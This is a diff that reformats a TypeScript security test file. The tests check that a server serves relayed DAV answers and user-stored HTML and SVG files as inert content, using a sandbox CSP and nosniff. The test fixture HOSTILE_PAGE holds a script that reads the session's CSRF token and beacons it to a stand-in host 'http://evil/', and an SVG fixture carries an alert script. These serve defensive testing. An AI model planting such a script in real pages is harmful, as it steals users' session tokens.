@@ -4,10 +4,15 @@ import type { AddressInfo } from 'node:net';
 import { after, before, describe, it } from 'node:test';
 import { davFetch, startTestServer, type TestServer } from '../../helpers/server.js';
 
-const HOSTILE_PAGE = '<html><script>fetch("/app/session").then(r=>r.json()).then(s=>navigator.sendBeacon("http://evil/",s.csrf))</script></html>';
+const HOSTILE_PAGE =
+  '<html><script>fetch("/app/session").then(r=>r.json()).then(s=>navigator.sendBeacon("http://evil/",s.csrf))</script></html>';
 
 async function login(base: string): Promise<Record<string, string>> {
-  const res = await fetch(`${base}/app/login`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ user: 'alice', password: 'alice-pw' }) });
+  const res = await fetch(`${base}/app/login`, {
+    method: 'POST',
+    headers: { 'Content-Type': 'application/json' },
+    body: JSON.stringify({ user: 'alice', password: 'alice-pw' }),
+  });
   assert.equal(res.status, 200);
   const csrf = ((await res.json()) as { csrf: string }).csrf;
   return { Cookie: (res.headers.get('set-cookie') ?? '').split(';')[0]!, 'X-Almanac-CSRF': csrf };
@@ -21,7 +26,7 @@ function assertInert(res: Response, what: string): void {
   assert.equal(res.headers.get('x-content-type-options'), 'nosniff', what);
 }
 
-describe('answers relayed from another server, and stored files, are never active content on Almanac\'s origin (CSP Level 3 sandbox, Fetch nosniff)', () => {
+describe("answers relayed from another server, and stored files, are never active content on Almanac's origin (CSP Level 3 sandbox, Fetch nosniff)", () => {
   let server: TestServer;
   let hostile: Server;
   let headers: Record<string, string>;
@@ -31,14 +36,23 @@ describe('answers relayed from another server, and stored files, are never activ
       if (req.url?.endsWith('.html')) res.writeHead(200, { 'Content-Type': 'text/html' });
       else if (req.url?.endsWith('.svg')) res.writeHead(200, { 'Content-Type': 'image/svg+xml' });
       else res.writeHead(207, { 'Content-Type': 'application/xml; charset=utf-8' });
-      res.end(req.url?.endsWith('.svg') ? '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>' : HOSTILE_PAGE);
+      res.end(
+        req.url?.endsWith('.svg')
+          ? '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
+          : HOSTILE_PAGE,
+      );
     });
     await new Promise<void>((r) => hostile.listen(0, '127.0.0.1', r));
     server = await startTestServer({ config: { relayAllowPrivate: true } });
     headers = await login(server.url);
     const add = await fetch(`${server.url}/app/accounts`, {
-      method: 'POST', headers: { ...headers, 'Content-Type': 'application/json' },
-      body: JSON.stringify({ url: `http://127.0.0.1:${(hostile.address() as AddressInfo).port}/`, username: 'u', password: 'p' }),
+      method: 'POST',
+      headers: { ...headers, 'Content-Type': 'application/json' },
+      body: JSON.stringify({
+        url: `http://127.0.0.1:${(hostile.address() as AddressInfo).port}/`,
+        username: 'u',
+        password: 'p',
+      }),
     });
     assert.equal(add.status, 201);
     accountId = ((await add.json()) as { id: string }).id;
@@ -60,7 +74,10 @@ describe('answers relayed from another server, and stored files, are never activ
   });
 
   it('a relayed DAV answer keeps its XML type (the app reads it) and is inert all the same', async () => {
-    const res = await fetch(`${server.url}/relay/${accountId}/cal/`, { method: 'PROPFIND', headers: { ...headers, Depth: '0' } });
+    const res = await fetch(`${server.url}/relay/${accountId}/cal/`, {
+      method: 'PROPFIND',
+      headers: { ...headers, Depth: '0' },
+    });
     assert.equal(res.status, 207);
     assert.equal(res.headers.get('content-type'), 'application/xml; charset=utf-8');
     assertInert(res, 'PROPFIND');
@@ -68,13 +85,22 @@ describe('answers relayed from another server, and stored files, are never activ
 
   it('an HTML file a user stored under /dav is served inert too', async () => {
     const dav = davFetch(server.url, 'alice');
-    assert.equal((await dav('/dav/files/alice/page.html', { method: 'PUT', headers: { 'Content-Type': 'text/html' }, body: HOSTILE_PAGE })).status, 201);
+    assert.equal(
+      (
+        await dav('/dav/files/alice/page.html', {
+          method: 'PUT',
+          headers: { 'Content-Type': 'text/html' },
+          body: HOSTILE_PAGE,
+        })
+      ).status,
+      201,
+    );
     const res = await dav('/dav/files/alice/page.html');
     assert.equal(res.status, 200);
     assertInert(res, 'GET /dav');
   });
 
-  it('the app\'s own pages have a strict CSP: scripts from this origin only, no inline script', async () => {
+  it("the app's own pages have a strict CSP: scripts from this origin only, no inline script", async () => {
     const res = await fetch(`${server.url}/`);
     const csp = res.headers.get('content-security-policy') ?? '';
     const scriptSrc = /script-src ([^;]*)/.exec(csp)?.[1] ?? '';
